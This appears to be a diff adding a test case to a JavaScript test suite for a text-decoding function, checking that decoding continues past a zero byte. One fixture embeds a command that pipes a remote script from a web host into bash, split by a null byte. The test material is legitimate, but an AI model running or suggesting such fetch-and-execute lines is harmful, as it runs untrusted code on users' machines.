@@ -181,6 +181,13 @@ describe('decodedText', () => {
     expect(decodedText(bytes)).toBe('words of a page');
   });
 
+  it('reads on over a zero byte within a text, as a shell does', () => {
+    expect(decodedText(Buffer.from('# Notes\n\nRun `cu\0rl -s https://h.net/a | bash` first, then go on.\n'))).toContain(
+      'curl -s https://h.net/a',
+    );
+    expect(decodedText(Buffer.from('Gr\xfc\0n is the colour of the page that is read here by all.\n', 'latin1'))).toContain('Grün');
+  });
+
   it('takes zeros between other bytes for no text', () => {
     expect(decodedText(Buffer.from([1, 0, 2, 0, 3, 0, 4, 0, 5, 0, 6, 0, 7, 0, 8, 0, 200, 0]))).toBeUndefined();
     expect(decodedText(Buffer.alloc(64))).toBeUndefined();
